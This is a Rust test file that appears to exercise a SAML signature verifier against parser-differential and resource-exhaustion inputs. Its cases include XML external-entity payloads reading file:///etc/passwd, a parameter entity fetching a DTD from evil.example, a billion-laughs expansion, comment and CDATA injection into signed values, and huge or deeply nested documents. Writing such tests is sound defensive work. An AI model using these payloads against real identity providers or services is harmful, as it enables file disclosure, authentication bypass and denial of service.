//! Documents made to be read differently by two parsers, or to cost too much. Where the signature survives the change,
//! it is genuine: it is the gate that refuses (attacks 5, 16, 17, 28 and 29).

use super::message::{GENUINE, Style, response};
use super::signing::{Manner, PROVIDER, genuine, sign_assertion, sign_both};
use super::{Case, proven, refuse, unjudged};

pub fn cases() -> Vec<Case> {
    [markup(), encodings(), heavy()].concat()
}

fn markup() -> Vec<Case> {
    let genuine = genuine();
    let commented = genuine.replacen(GENUINE, "AT-genuine<!-- -->-person", 1);
    let one = sign_assertion(&response(&Style::default()), &Manner::of(&PROVIDER));
    let mut cases = vec![
        proven(
            "comments",
            "in NameID".to_owned(),
            commented,
            &["xml-comment"],
        ),
        proven(
            "comments",
            "before the root".to_owned(),
            format!("<!-- -->{genuine}"),
            &["xml-comment"],
        ),
        proven(
            "comments",
            "after the root".to_owned(),
            format!("{genuine}<!-- -->"),
            &["xml-comment"],
        ),
        proven(
            "comments",
            "in DigestValue".to_owned(),
            genuine.replace("<ds:DigestValue>", "<ds:DigestValue><!-- forged -->"),
            &["xml-comment"],
        ),
        proven(
            "CDATA",
            "in NameID".to_owned(),
            genuine.replacen(GENUINE, "<![CDATA[AT-genuine]]>-person", 1),
            &["xml-cdata"],
        ),
        proven(
            "CDATA",
            "in DigestValue".to_owned(),
            genuine.replace("<ds:DigestValue>", "<ds:DigestValue><![CDATA[]]>"),
            &["xml-cdata"],
        ),
        proven(
            "processing instructions",
            "before the root".to_owned(),
            format!("<?x y?>{genuine}"),
            &["xml-processing-instruction"],
        ),
        proven(
            "processing instructions",
            "after the root".to_owned(),
            format!("{genuine}<?x y?>"),
            &["xml-processing-instruction"],
        ),
        proven(
            "processing instructions",
            "style sheet".to_owned(),
            format!("<?xml-stylesheet href=\"https://evil.example\"?>{genuine}"),
            &["xml-processing-instruction"],
        ),
        proven(
            "processing instructions",
            "in the unsigned part".to_owned(),
            one.replacen("<samlp:Status>", "<?x y?><samlp:Status>", 1),
            &["xml-processing-instruction"],
        ),
        refuse(
            "processing instructions",
            "in the signed part".to_owned(),
            genuine.replacen(GENUINE, "AT-genuine<?x y?>-person", 1),
            &["xml-processing-instruction"],
        ),
    ];
    for (name, doctype) in [
        ("empty", "<!DOCTYPE Response>"),
        ("entity", "<!DOCTYPE Response [<!ENTITY x \"y\">]>"),
        (
            "attribute list",
            "<!DOCTYPE Response [<!ATTLIST saml:Assertion xmlns:saml CDATA \"urn:oasis:names:tc:SAML:2.0:assertion\">]>",
        ),
        (
            "id attribute",
            "<!DOCTYPE Response [<!ATTLIST samlp:Response Destination ID #IMPLIED>]>",
        ),
        (
            "quotes",
            "<!DOCTYPE Response [<!ENTITY x '<!ENTITY y \"]>\">'>]>",
        ),
    ] {
        cases.push(proven(
            "DOCTYPE",
            name.to_owned(),
            format!("{doctype}{genuine}"),
            &["xml-doctype"],
        ));
    }
    for (name, doctype) in [
        (
            "external file",
            "<!DOCTYPE Response SYSTEM \"file:///etc/passwd\">",
        ),
        (
            "external entity",
            "<!DOCTYPE Response [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        ),
        (
            "parameter entity",
            "<!DOCTYPE Response [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\">%x;]>",
        ),
        (
            "billion laughs",
            "<!DOCTYPE Response [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
        ),
    ] {
        let text = format!("{doctype}{}", genuine.replacen(GENUINE, "&x;", 1));
        cases.push(refuse("DOCTYPE", name.to_owned(), text, &["xml-doctype"]));
    }
    for (name, from, to, codes) in [
        (
            "undefined entity",
            GENUINE,
            "&nbsp;",
            &["xml-reference"] as &[_],
        ),
        (
            "reference to a surrogate",
            GENUINE,
            "&#xD800;",
            &["xml-reference"],
        ),
        (
            "lone carriage return",
            GENUINE,
            "AT-genuine\r-person",
            &["xml-lone-carriage-return"],
        ),
        (
            "default namespace declared twice",
            "<samlp:Status>",
            "<samlp:Status xmlns=\"urn:a\" xmlns=\"urn:b\">",
            &["xml-duplicate-attribute"],
        ),
        (
            "prefixed xmlns",
            "<samlp:Status>",
            "<samlp:Status samlp:xmlns=\"urn:a\">",
            &["xml-name"],
        ),
        (
            "name that begins with a colon",
            "<samlp:Status>",
            "<:x/><samlp:Status>",
            &["xml-name"],
        ),
        (
            "undeclared prefix",
            "<samlp:Status>",
            "<p:x/><samlp:Status>",
            &["xml-malformed"],
        ),
        (
            "attribute twice",
            " Version=\"2.0\"",
            " Version=\"2.0\" Version=\"2.0\"",
            &["xml-duplicate-attribute"],
        ),
        (
            "prefix without namespace",
            "<samlp:Status>",
            "<samlp:Status xmlns:x=\"\">",
            &["xml-relative-namespace"],
        ),
    ] {
        cases.push(refuse(
            "two parsers, two readings",
            name.to_owned(),
            genuine.replacen(from, to, 1),
            codes,
        ));
    }
    cases
}

fn encodings() -> Vec<Case> {
    let style = Style {
        before: "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        ..Style::default()
    };
    let message = sign_both(&response(&style), &Manner::of(&PROVIDER));
    let utf_16 = |text: &str| -> Vec<u8> {
        let units = std::iter::once(0xfeff).chain(text.encode_utf16());
        units.flat_map(u16::to_le_bytes).collect()
    };
    let latin_1: Vec<u8> = message
        .replace("UTF-8", "ISO-8859-1")
        .chars()
        .map(|char| u8::try_from(char).unwrap())
        .collect();
    let bytes = |name: &str, text: Vec<u8>, codes: &[&str]| Case {
        text,
        ..proven("encodings", name.to_owned(), String::new(), codes)
    };
    vec![
        bytes(
            "UTF-16",
            utf_16(&message.replace("UTF-8", "UTF-16")),
            &["xml-not-utf-8"],
        ),
        bytes(
            "UTF-16 without saying",
            utf_16(&genuine()),
            &["xml-not-utf-8"],
        ),
        bytes("ISO 8859-1", latin_1, &["xml-not-utf-8"]),
        proven(
            "encodings",
            "byte order mark".to_owned(),
            format!("\u{feff}{message}"),
            &["xml-byte-order-mark"],
        ),
        refuse(
            "encodings",
            "declared to be UTF-7".to_owned(),
            message.replace("UTF-8", "UTF-7"),
            &["xml-not-utf-8"],
        ),
        refuse(
            "encodings",
            "declared to be EBCDIC".to_owned(),
            message.replace("UTF-8", "IBM037"),
            &["xml-not-utf-8"],
        ),
        refuse(
            "encodings",
            "NUL at the end".to_owned(),
            format!("{message}\0"),
            &["xml-nul"],
        ),
        refuse(
            "encodings",
            "NUL in a value".to_owned(),
            message.replacen(GENUINE, "AT\0", 1),
            &["xml-nul"],
        ),
        refuse(
            "encodings",
            "XML 1.1".to_owned(),
            message.replacen("version=\"1.0\"", "version=\"1.1\"", 1),
            &["xml-declaration"],
        ),
        Case {
            text: [message.as_bytes(), b"\xc0\xbc"].concat(),
            ..refuse(
                "encodings",
                "overlong UTF-8".to_owned(),
                String::new(),
                &["xml-not-utf-8"],
            )
        },
    ]
}

/// Refused before any judge would have to work through them.
fn heavy() -> Vec<Case> {
    let genuine = genuine();
    let with =
        |guest: &str| genuine.replacen("<samlp:Status>", &format!("{guest}<samlp:Status>"), 1);
    let wide: String = (0..1_000_000).map(|n| format!(" a{n}=\"\"")).collect();
    let some: String = (0..10_000).map(|n| format!(" a{n}=\"\"")).collect();
    let namespaces: String = (0..5_000)
        .map(|n| format!(" xmlns:a{n}=\"urn:{n}\""))
        .collect();
    [
        ("10 MB", with(&" ".repeat(10_000_000)), "xml-too-large"),
        (
            "depth 100,000, closed",
            with(&format!(
                "{}{}",
                "<a>".repeat(100_000),
                "</a>".repeat(100_000)
            )),
            "xml-too-large",
        ),
        (
            "depth 20,000, closed",
            with(&format!(
                "{}{}",
                "<a>".repeat(20_000),
                "</a>".repeat(20_000)
            )),
            "xml-too-deep",
        ),
        ("depth 20,000, open", "<a>".repeat(20_000), "xml-too-deep"),
        (
            "one long namespace, used by 9,000 siblings",
            with(&format!(
                "<a xmlns:z=\"urn:{}\">{}</a>",
                "a".repeat(70_000),
                "<z:b/>".repeat(9_000)
            )),
            "xml-long-namespace",
        ),
        (
            "a million attributes",
            with(&format!("<a{wide}/>")),
            "xml-too-large",
        ),
        (
            "10,000 attributes of one element",
            with(&format!("<a{some}/>")),
            "xml-too-many-attributes",
        ),
        (
            "5,000 namespaces",
            with(&format!("<a{namespaces}/>")),
            "xml-too-many-namespaces",
        ),
        (
            "30,000 elements",
            with(&"<a/>".repeat(30_000)),
            "xml-too-many-nodes",
        ),
        (
            "30,000 attributes",
            with(&"<a b=\"\"/>".repeat(20_000)),
            "xml-too-many-attributes",
        ),
        (
            "long name",
            with(&format!("<{}/>", "a".repeat(100_000))),
            "xml-name",
        ),
    ]
    .into_iter()
    .map(|(name, text, code)| unjudged("deep and huge", name.to_owned(), text, &[code]))
    .collect()
}
